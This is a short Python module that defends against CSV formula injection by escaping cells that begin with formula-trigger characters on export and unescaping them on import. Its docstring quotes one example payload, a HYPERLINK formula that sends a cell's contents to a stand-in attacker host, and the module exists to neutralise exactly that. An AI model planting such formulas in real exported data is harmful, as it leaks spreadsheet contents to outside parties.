"""Text a spreadsheet would evaluate, written so that it never is ("CSV injection").

A unit may name a system ``=HYPERLINK("http://evil.example/?"&C500,"open")``; the
authority's export must not hand that to Excel as a formula.

The rule, for CSV (which has no cell types):

- On export, a cell whose text starts with ``= + - @``, a tab or a carriage return,
  their full-width forms ``＝ ＋ － ＠`` (which Excel and WPS also evaluate), or an
  apostrophe is written with one apostrophe in front: ``'=1+1``, ``''quoted``.
- On import, one leading apostrophe is removed: ``'=1+1`` reads ``=1+1``,
  ``''quoted`` reads ``'quoted``. So a hand-typed cell that really starts with an
  apostrophe is written with two, as in Excel itself.

An export therefore imports back unchanged. XLSX needs no escaping: the writer
stores every text as a string cell (never a formula), and the reader returns string
cells verbatim.
"""

from __future__ import annotations

ESCAPE = "'"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_ESCAPED = (*TRIGGERS, ESCAPE)


def neutralise(text: str) -> str:
    return ESCAPE + text if text.startswith(_ESCAPED) else text


def restore(text: str) -> str:
    return text[1:] if text.startswith(ESCAPE) else text
